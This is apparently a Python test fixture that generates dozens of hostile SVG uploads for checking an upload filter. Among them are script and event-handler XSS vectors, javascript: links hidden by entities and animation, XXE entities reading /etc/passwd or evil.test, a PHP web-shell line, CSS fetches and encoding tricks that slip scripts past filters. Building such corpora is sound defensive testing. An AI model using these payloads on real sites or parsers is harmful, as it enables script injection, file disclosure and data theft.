"""SVG that runs, fetches or deceives."""
# ruff: noqa: E501 - each is easier to read in one piece

from __future__ import annotations

import base64
from collections.abc import Iterator

from tests.uploads.corpus.files import HTML, PAYLOAD, SCRIPT, SVG_TYPE, Areas, Hostile

FAMILY = "drawings"
SPACES = (
    'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:h="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events" '
    'width="90" height="90"'
)
RECT = '<rect width="90" height="90"/>'
BASE64 = base64.b64encode(HTML).decode()
LINK = f"javascript:{PAYLOAD}"
CLICK = "<text y='20'>click</text></a>"


def drawing(inner: str, more: str = "") -> str:
    """Return a drawing."""
    return f"<svg {SPACES} {more}>{inner}{RECT}</svg>"


# The text, and whether a browser that is shown it runs it unasked, and tells from where.
ACTIVE: dict[str, tuple[str, bool]] = {
    "script": (drawing(SCRIPT.decode()), True),
    "script in cdata": (drawing(f"<script><![CDATA[{PAYLOAD}]]></script>"), True),
    "script with a type": (
        drawing(f"<script type='application/ecmascript'>{PAYLOAD}</script>"),
        True,
    ),
    "script by data": (
        drawing(
            f"<script href='data:text/javascript;base64,{base64.b64encode(PAYLOAD.encode()).decode()}'/>"
        ),
        True,
    ),
    "script by address": (drawing("<script xlink:href='https://evil.test/a.js'/>"), False),
    "script with a prefix": (
        f"<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>{PAYLOAD}</s:script></s:svg>",
        True,
    ),
    "script of html": (drawing(f"<h:script>{PAYLOAD}</h:script>"), True),
    "script deep down": (drawing("<g>" * 90 + SCRIPT.decode() + "</g>" * 90), True),
    "script in defs": (drawing(f"<defs>{SCRIPT.decode()}</defs>"), True),
    "script in metadata": (drawing(f"<metadata>{SCRIPT.decode()}</metadata>"), True),
    "script after a space of its own": (
        drawing(f"<x:g xmlns:x='urn:x'><script>{PAYLOAD}</script></x:g>"),
        True,
    ),
    "namespace set anew": (
        f"<x:svg xmlns:x='http://www.w3.org/2000/svg'><y:script xmlns:y='http://www.w3.org/2000/svg'>{PAYLOAD}</y:script></x:svg>",
        True,
    ),
    "onload": (drawing("", f'onload="{PAYLOAD}"'), True),
    "onload in references": (
        drawing("", f'onload="{"".join(f"&#{ord(c)};" for c in PAYLOAD)}"'),
        True,
    ),
    "onload of a picture": (drawing(f"<image href='data:,' onerror=\"{PAYLOAD}\"/>"), True),
    "onerror of html": (drawing(f"<h:img src='x' onerror=\"{PAYLOAD}\"/>"), True),
    "onclick": (drawing(f'<rect onclick="{PAYLOAD}"/>'), False),
    "onfocus": (drawing(f'<a href="#" tabindex="0" autofocus="" onfocus="{PAYLOAD}">x</a>'), False),
    "onbegin": (drawing(f'<animate onbegin="{PAYLOAD}" attributeName="x" dur="1s"/>'), True),
    "onend": (drawing(f'<set onend="{PAYLOAD}" attributeName="x" to="1" dur="0.01s"/>'), True),
    "onrepeat": (
        drawing(f'<animate onrepeat="{PAYLOAD}" attributeName="x" dur=".01s" repeatCount="2"/>'),
        True,
    ),
    "ontoggle of html": (drawing(f'<h:details open="" ontoggle="{PAYLOAD}"/>'), True),
    "listener": (drawing(f'<handler ev:event="load">{PAYLOAD}</handler>'), False),
    "link": (drawing(f'<a href="{LINK}">{CLICK}'), False),
    "link of xlink": (drawing(f'<a xlink:href="{LINK}">{CLICK}'), False),
    "link in capitals": (drawing(f'<a href="JaVaScRiPt:{PAYLOAD}">{CLICK}'), False),
    "link with white space": (
        drawing(f'<a href="&#32;java&#9;scr&#10;ipt&#13;:{PAYLOAD}">{CLICK}'),
        False,
    ),
    "link in references": (drawing(f'<a href="&#x6a;&#97;vascript&#58;{PAYLOAD}">{CLICK}'), False),
    "link by set": (drawing(f'<a><set attributeName="href" to="{LINK}"/>{CLICK}'), False),
    "link by animate": (
        drawing(f'<a><animate attributeName="xlink:href" values="{LINK}"/>{CLICK}'),
        False,
    ),
    "link by from and to": (
        drawing(f'<a><animate attributeName="href" from="{LINK}" to="#"/>{CLICK}'),
        False,
    ),
    "handler by set": (
        drawing(f'<rect><set attributeName="onclick" to="{PAYLOAD}"/></rect>'),
        False,
    ),
    "link by id": (
        drawing(f'<a id="a">{CLICK}<set href="#a" attributeName="href" to="{LINK}"/>'),
        False,
    ),
    "foreign object": (
        drawing(
            f"<foreignObject width='9' height='9'><h:body>{SCRIPT.decode()}</h:body></foreignObject>"
        ),
        True,
    ),
    "frame in a foreign object": (
        drawing(f"<foreignObject width='9' height='9'><h:iframe src=\"{LINK}\"/></foreignObject>"),
        False,
    ),
    "srcdoc": (
        drawing(f'<h:iframe srcdoc="&lt;script&gt;parent.eval(`{PAYLOAD}`)&lt;/script&gt;"/>'),
        True,
    ),
    "frame of html": (drawing(f'<h:iframe src="{LINK}"/>'), False),
    "object of html": (drawing(f'<h:object data="{LINK}"/>'), False),
    "embed of html": (drawing(f'<h:embed src="{LINK}"/>'), False),
    "form of html": (drawing(f'<h:form action="{LINK}"><h:input type="submit"/></h:form>'), False),
    "refresh of html": (drawing(f'<h:meta http-equiv="refresh" content="0;url={LINK}"/>'), False),
    "base of html": (drawing('<h:base href="https://evil.test/"/>'), False),
    "link of html": (drawing('<h:link rel="stylesheet" href="https://evil.test/"/>'), False),
    "html after a comment's end": (drawing(f"<!-- --!><img src=x onerror={PAYLOAD}> -->"), False),
    "html in a comment": (drawing(f"<!--><script>{PAYLOAD}</script>-->"), False),
    "mathml": (drawing(f'<math xmlns="http://www.w3.org/1998/Math/MathML" href="{LINK}"/>'), False),
    "video of html": (drawing(f'<h:video onloadstart="{PAYLOAD}" src="x"/>'), True),
}
FETCHING: dict[str, str] = {
    "link of data": drawing(f'<a href="data:text/html;base64,{BASE64}">{CLICK}'),
    "use of data": drawing(f'<use href="data:image/svg+xml;base64,{BASE64}#a"/>'),
    "use from outside": drawing('<use xlink:href="https://evil.test/a.svg#a"/>'),
    "picture from outside": drawing('<image xlink:href="https://evil.test/a.png"/>'),
    "picture without a scheme": drawing('<image href="//evil.test/a.png"/>'),
    "picture of a file": drawing('<image href="file:///etc/passwd"/>'),
    "picture of the site": drawing('<image href="/accounts/logout/"/>'),
    "picture of a drawing": drawing(f'<image href="data:image/svg+xml;base64,{BASE64}"/>'),
    "feImage": drawing('<filter id="a"><feImage href="https://evil.test/a"/></filter>'),
    "base": drawing('<use href="#a"/>', 'xml:base="https://evil.test/"'),
    "import": drawing("<style>@import url(https://evil.test/a.css);</style>"),
    "import in pieces": drawing("<style>@im<!-- -->port 'https://evil.test/'</style>"),
    "import with escapes": drawing("<style>@\\69mport 'https://evil.test/'</style>"),
    "font": drawing("<style>@font-face{font-family:a;src:url(https://evil.test/)}</style>"),
    "style of an element": drawing('<rect style="fill:url(https://evil.test/#a)"/>'),
    "attribute selectors": drawing("<style>a[href^='x']{background:url(//evil.test/x)}</style>"),
    "old expression": drawing('<rect style="width:expression(alert(1))"/>'),
    "old binding": drawing('<rect style="-moz-binding:url(//evil.test/a.xml#a)"/>'),
    "cursor": drawing('<rect cursor="url(https://evil.test/a)"/>'),
    "end of style in html": drawing(
        f"<style>&lt;/style&gt;<![CDATA[</style><script>{PAYLOAD}</script>]]></style>"
    ),
    "style sheet": f'<?xml-stylesheet href="https://evil.test/a.css"?>{drawing("")}',
    "style sheet of xslt": f'<?xml-stylesheet type="text/xsl" href="data:text/xml,a"?>{drawing("")}',
    "php": drawing("<?php system($_GET['c']); ?>"),
    "short php": drawing("<?= 1 ?>"),
}
ENTITIES: dict[str, str] = {
    "outside entity": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{drawing("<text>&a;</text>")}',
    "outside entity of http": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "https://evil.test/">]>{drawing("<text>&a;</text>")}',
    "parameter entity": f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.test/a.dtd">%a;]>{drawing("")}',
    "outside dtd": f'<!DOCTYPE svg SYSTEM "https://evil.test/a.dtd">{drawing("")}',
    "dtd of xhtml": '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
    + drawing("<text>&nbsp;</text>"),
    "entity that is a script": f'<!DOCTYPE svg [<!ENTITY a "<script xmlns=&#39;http://www.w3.org/2000/svg&#39;>{PAYLOAD.replace(chr(39), "&#x26;#39;")}</script>">]>{drawing("&a;")}',
    "attribute by default": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{PAYLOAD}">]>{drawing("")}',
    "link by default": f'<!DOCTYPE svg [<!ATTLIST a href CDATA "{LINK}">]>{drawing("<a>x</a>")}',
    "public dtd with entities": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" '
    f'[<!ENTITY a "javascript">]>{drawing(f"<a href=~&a;:{PAYLOAD}~>x</a>".replace("~", chr(34)))}',
    "public dtd from elsewhere": f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.test/a.dtd">{drawing("")}',
    "entity nobody declared": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    + drawing("<text>&unknown;</text>"),
    "attribute with an entity nobody declared": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    + drawing(f'<a href="&unknown;javascript:{PAYLOAD}">x</a>'),
}


def encoded() -> Iterator[tuple[str, bytes, Areas, bool]]:
    """Yield scripts in encodings that hide them from who reads ASCII."""
    evil = drawing(SCRIPT.decode())
    yield "utf-16", ("\ufeff" + evil).encode("utf-16-le"), ("svg", "content"), True
    yield "utf-16 the other way", ("\ufeff" + evil).encode("utf-16-be"), ("svg", "content"), True
    yield "utf-16 without a mark", evil.encode("utf-16-le"), ("svg", "content"), False
    seven = evil.replace("<", "+ADw-").replace(">", "+AD4-")
    yield "utf-7", b"<?xml version='1.0' encoding='UTF-7'?>" + seven.encode(), ("content",), False
    declared = "<?xml version='1.0' encoding='{}'?>"
    for name in (
        "ISO-2022-JP",
        "GBK",
        "Shift_JIS",
        "windows-1252",
        "x-user-defined",
        "EBCDIC-CP-US",
    ):
        content = declared.format(name).encode() + evil.encode()
        yield f"declared as {name}", content, ("content", "svg"), name in ("GBK", "windows-1252")
    yield "ebcdic", (declared.format("cp037") + evil).encode("cp037"), ("content",), False
    yield "xml 1.1", f"<?xml version='1.1'?>{evil}".encode(), ("content", "svg"), False
    yield "byte order mark", b"\xef\xbb\xbf" + evil.encode(), ("svg",), True
    yield "two roots", (drawing("") + drawing(SCRIPT.decode())).encode(), ("content",), False
    yield "script after the end", drawing("").encode() + SCRIPT, ("content",), False
    yield "html before it", SCRIPT + drawing("").encode(), ("content", "svg"), False
    yield "no namespace", f"<svg>{SCRIPT.decode()}</svg>".encode(), ("content", "svg"), False
    yield "nul", evil.replace("<script>", "<scr\0ipt>").encode(), ("content",), False


def files() -> Iterator[Hostile]:
    """Yield the family."""
    for title, (text, runs) in ACTIVE.items():
        runs_as = SVG_TYPE if runs else None
        yield Hostile(FAMILY, title, "a.svg", text.encode(), ("svg", "content"), runs_as=runs_as)
    for title, text in FETCHING.items():
        yield Hostile(FAMILY, title, "a.svg", text.encode(), ("svg", "content"))
    for title, text in ENTITIES.items():
        yield Hostile(FAMILY, title, "a.svg", text.encode(), ("xml", "content", "svg"))
    for title, content, areas, runs in encoded():
        runs_as = SVG_TYPE if runs else None
        yield Hostile(FAMILY, title, "a.svg", content, areas, runs_as=runs_as)
